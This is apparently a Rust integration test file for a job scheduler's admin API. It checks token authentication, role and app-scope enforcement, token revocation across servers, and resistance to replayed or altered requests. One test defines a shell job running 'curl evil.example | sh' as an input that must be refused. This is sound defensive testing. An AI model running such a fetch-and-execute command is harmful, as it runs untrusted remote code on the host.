//! The attack suite, part 3: the admin API. Nothing is served without a token; each verb needs
//! its role; a token scoped to one app cannot see or touch another; a revoked token stops
//! working on every server within a second; a sniffed request cannot be played again or altered.

use std::time::Duration;

use rota_client::AdminClient;
use rota_shared::admin::*;
use rota_shared::envelope::decode_reply;
use rota_shared::{ErrorCode, Subjects};
use rota_tests::bus::Sniffer;
use rota_tests::cluster::{Deployment, shell_job};
use rota_tests::wait;
use rota_transport::AdminToken;
use rota_worker::ProcessorRegistry;

/// The code a call failed with (panics when it succeeded: it must not).
fn code<T: std::fmt::Debug>(result: Result<T, rota_client::ClientError>) -> ErrorCode {
    match result {
        Ok(v) => panic!("the call succeeded: {v:?}"),
        Err(e) => e.code().unwrap_or_else(|| panic!("no code: {e}")),
    }
}

/// Everything an operator can see, to check that nothing changed.
async fn state(d: &Deployment) -> anyhow::Result<String> {
    let apps = d.admin.call(&AppList {}).await?;
    let jobs = d
        .admin
        .call(&JobList {
            app: None,
            ..Default::default()
        })
        .await?
        .items;
    let instances = d.admin.call(&InstanceList::default()).await?.items;
    Ok(serde_json::to_string(&(apps, jobs, instances))?)
}

fn run(id: i64) -> JobRun {
    JobRun {
        id,
        params: None,
        delay_ms: 0,
        idempotency_key: None,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_is_served_without_a_valid_token() -> anyhow::Result<()> {
    let d = Deployment::start().await?;
    d.create_app("app").await?;
    let job = d.create_job(shell_job("app", "j", "echo hi")).await?;
    let before = state(&d).await?;
    let options = d.nats_options.clone();
    let anonymous = AdminClient::connect(&options, "rota", None).await?;
    // A token nobody made: the request is sealed, but with a key no server knows.
    let made_up = anonymous.with_token(&AdminToken::generate()?)?;
    for client in [&anonymous, &made_up] {
        assert_eq!(
            code(client.call(&AppList {}).await),
            ErrorCode::Unauthorized
        );
        assert_eq!(
            code(client.call(&run(job.id)).await),
            ErrorCode::Unauthorized
        );
        let shell = shell_job("app", "evil", "curl evil.example | sh");
        assert_eq!(code(client.call(&shell).await), ErrorCode::Unauthorized);
        assert_eq!(
            code(client.call(&TokenList {}).await),
            ErrorCode::Unauthorized
        );
        let app = AppCreate {
            name: "evil".into(),
            sealed_key: "AAAA".into(),
        };
        assert_eq!(code(client.call(&app).await), ErrorCode::Unauthorized);
    }
    // The client itself will not send an app's key without a token to seal it for.
    assert!(anonymous.app_create("evil", "s").await.is_err());
    assert_eq!(state(&d).await?, before);
    d.shutdown().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn roles_and_app_scopes_are_enforced() -> anyhow::Result<()> {
    let mut d = Deployment::start().await?;
    d.create_app("a").await?;
    d.create_app("b").await?;
    d.start_worker(d.worker_config("b", "wb"), ProcessorRegistry::new())
        .await?;
    let job_a = d.create_job(shell_job("a", "ja", "echo a")).await?;
    let job_b = d.create_job(shell_job("b", "jb", "echo b")).await?;
    let inst_b = d.run(job_b.id).await?;
    d.wait_terminal(inst_b, Duration::from_secs(15)).await;

    // A viewer reads, and does nothing else.
    let viewer = d.client_with(&d.token(Role::Viewer, None).await?).await?;
    assert_eq!(
        viewer
            .call(&JobList {
                app: None,
                ..Default::default()
            })
            .await?
            .items
            .len(),
        2
    );
    viewer
        .call(&LogsGet {
            instance_id: inst_b,
            after_id: 0,
            limit: None,
        })
        .await?;
    assert_eq!(
        code(viewer.call(&run(job_a.id)).await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(viewer.call(&JobDisable(JobId { id: job_a.id })).await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(viewer.app_create("c", "s").await),
        ErrorCode::Forbidden
    );

    // An operator of app a runs a's jobs, and neither sees nor touches b.
    let operator = d
        .client_with(&d.token(Role::Operator, Some("a")).await?)
        .await?;
    operator.call(&run(job_a.id)).await?;
    let listed: Vec<String> = operator
        .call(&JobList {
            app: None,
            ..Default::default()
        })
        .await?
        .items
        .into_iter()
        .map(|j| j.app)
        .collect();
    assert_eq!(listed, vec!["a".to_owned()]);
    assert_eq!(
        code(operator.call(&run(job_b.id)).await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(
            operator
                .call(&JobList {
                    app: Some("b".into()),
                    ..Default::default()
                })
                .await
        ),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(
            operator
                .call(&InstanceShow(InstanceId { id: inst_b }))
                .await
        ),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(
            operator
                .call(&InstanceRetry(InstanceId { id: inst_b }))
                .await
        ),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(
            operator
                .call(&LogsGet {
                    instance_id: inst_b,
                    after_id: 0,
                    limit: None
                })
                .await
        ),
        ErrorCode::Forbidden
    );
    let listed_instances = operator.call(&InstanceList::default()).await?.items;
    assert!(
        listed_instances
            .iter()
            .all(|i| i.instance.job_id == job_a.id),
        "{listed_instances:?}"
    );
    assert_eq!(
        code(
            operator
                .call(&WorkerList {
                    app: Some("b".into()),
                    ..Default::default()
                })
                .await
        ),
        ErrorCode::Forbidden
    );
    // Defining jobs (a shell job among them) needs the admin role.
    assert_eq!(
        code(operator.call(&shell_job("a", "new", "echo")).await),
        ErrorCode::Forbidden
    );

    // An admin of app a defines a's jobs, and still not b's, apps or tokens.
    let admin_a = d
        .client_with(&d.token(Role::Admin, Some("a")).await?)
        .await?;
    admin_a.call(&shell_job("a", "new", "echo")).await?;
    assert_eq!(
        code(admin_a.call(&shell_job("b", "new", "echo")).await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(admin_a.app_create("c", "s").await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(admin_a.token_create(Role::Admin, None, "escalate").await),
        ErrorCode::Forbidden
    );
    assert_eq!(
        code(
            admin_a
                .app_rotate_secret("b", "mine now", Duration::ZERO)
                .await
        ),
        ErrorCode::Forbidden
    );

    // Nothing of b changed.
    let b = d.instances_of(job_b.id).await?;
    assert_eq!(b.len(), 1, "{b:?}");
    d.shutdown().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_token_stops_working_on_every_server() -> anyhow::Result<()> {
    let mut d = Deployment::start().await?;
    d.start_server("s2").await?;
    d.create_app("app").await?;
    let (info, token) = d
        .admin
        .token_create(Role::Viewer, None, "short-lived")
        .await?;
    let listed = d.admin.call(&TokenList {}).await?;
    assert!(
        listed
            .iter()
            .any(|t| t.id == info.id && t.revoked_at_ms.is_none())
    );
    let holder = d.client_with(&token).await?;
    for server in ["s1", "s2"] {
        holder.at_server(server).call(&AppList {}).await?;
    }
    let revoked = d
        .admin
        .call(&TokenRevoke {
            id: info.id.clone(),
        })
        .await?;
    assert!(revoked.revoked_at_ms.is_some());
    // At once on the server that revoked it, and within a second (its token cache) elsewhere.
    for server in ["s1", "s2"] {
        let at = holder.at_server(server);
        wait::until(
            &format!("{server} to refuse the revoked token"),
            Duration::from_secs(3),
            || async {
                (at.call(&AppList {}).await.err()?.code() == Some(ErrorCode::Unauthorized))
                    .then_some(())
            },
        )
        .await;
    }
    d.shutdown().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sniffed_admin_request_cannot_be_replayed_or_altered() -> anyhow::Result<()> {
    let mut d = Deployment::start().await?;
    d.create_app("app").await?;
    d.start_worker(d.worker_config("app", "w1"), ProcessorRegistry::new())
        .await?;
    let job = d.create_job(shell_job("app", "j", "echo hi")).await?;
    let other = d
        .create_job(shell_job("app", "other", "echo other"))
        .await?;
    let attacker = async_nats::connect(d.nats.url()).await?;
    let subject = Subjects::default().admin("job", "run");
    let sniffer = Sniffer::start(&attacker, &subject).await?;
    let id = d.run(job.id).await?;
    d.wait_terminal(id, Duration::from_secs(15)).await;
    let sniffed = sniffer
        .wait_for("the job.run request", Duration::from_secs(5), |_| true)
        .await;
    let headers = sniffed.headers.clone().expect("sealed");
    let replayed = attacker
        .request_with_headers(subject.clone(), headers.clone(), sniffed.payload.clone())
        .await?;
    assert_eq!(
        decode_reply::<RunStarted>(&replayed.payload).map_err(|e| e.code),
        Err(ErrorCode::Unauthorized)
    );
    let altered = serde_json::to_vec(&run(other.id))?;
    let altered = attacker
        .request_with_headers(subject, headers, altered.into())
        .await?;
    assert_eq!(
        decode_reply::<RunStarted>(&altered.payload).map_err(|e| e.code),
        Err(ErrorCode::Unauthorized)
    );
    assert_eq!(d.instances_of(job.id).await?.len(), 1);
    assert!(d.instances_of(other.id).await?.is_empty());
    d.shutdown().await;
    Ok(())
}
